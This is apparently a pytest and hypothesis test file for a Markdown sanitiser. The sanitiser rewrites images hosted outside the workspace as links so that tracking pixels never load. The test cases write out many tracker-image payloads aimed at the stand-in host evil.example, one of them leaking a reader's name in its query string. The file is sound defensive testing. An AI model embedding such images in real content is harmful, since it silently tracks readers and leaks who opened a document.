"""Issue 12: a Markdown image pointing outside the workspace is shown as a link, never loaded
in a reader's browser (it would tell its author who opened the draft, and when)."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from research.ui.components.common.user_markdown import external_images_as_links

PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def _images(text: str) -> list[str]:
    found = []
    for token in PARSER.parse(text):
        found += [child.attrGet("src") for child in token.children or [] if child.type == "image"]
    return found


def _links(text: str) -> list[str]:
    found = []
    for token in PARSER.parse(text):
        found += [child.attrGet("href") for child in token.children or [] if child.type == "link_open"]
    return found


@pytest.mark.parametrize(
    "text",
    [
        "Intro ![tracker](https://evil.example/p.gif?who=hana) end.",
        "![](http://evil.example/empty-alt.png)",
        "![proto-relative](//evil.example/x.png)",
        "> quoted\n> ![in a quote](https://evil.example/q.png)",
        "- item\n- ![in a list](https://evil.example/l.png) after",
        "| a | b |\n|---|---|\n| ![cell](https://evil.example/c.png) | ![cell](https://evil.example/c.png) |",
        "# Heading ![h](https://evil.example/h.png)",
        "Reference ![ref][pic]\n\n[pic]: https://evil.example/r.png",
        "[![badge](https://evil.example/b.svg)](https://example.org)",
        "`![code](https://evil.example/code.png)` then ![real](https://evil.example/real.png)",
        'Two ![a](https://evil.example/1.png) and ![b](https://evil.example/2.png "title")',
        "![multi\nline alt](https://evil.example/m.png)",
    ],
)
def test_external_images_become_links(text):
    assert _images(text)  # the case does show an image before the transform
    shown = external_images_as_links(text)
    assert _images(shown) == []
    assert any("evil.example" in href for href in _links(shown))


def test_the_rest_of_the_text_is_kept_as_written():
    text = "# Title\n\nSome **bold** text, `![code](https://x.example/c.png)` and $5.\n\n- a\n- b\n"
    assert external_images_as_links(text) == text
    shown = external_images_as_links("Before ![chart](https://x.example/c.png) after.")
    assert shown.startswith("Before ") and shown.endswith(" after.") and "chart" in shown


@pytest.mark.parametrize("text", ["![local](media/chart.png)", "![inline](data:image/png;base64,iVBORw0KGgo=)"])
def test_images_from_the_workspace_itself_stay_images(text):
    assert external_images_as_links(text) == text


PIECES = [
    "![",
    "](",
    "https://evil.example/x.png",
    ")",
    "]",
    "[",
    "\n",
    "> ",
    "- ",
    "| ",
    "|---|",
    "`",
    "a",
    " ",
    "\t",
    "  ",
    "1. ",
    "[r]",
    "\n[r]: //evil.example/y.png\n",
    "\\",
    "<",
    ">",
    "*",
]


@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_no_outside_image_survives_any_text(text):
    assert not [src for src in _images(external_images_as_links(text)) if "evil.example" in src]
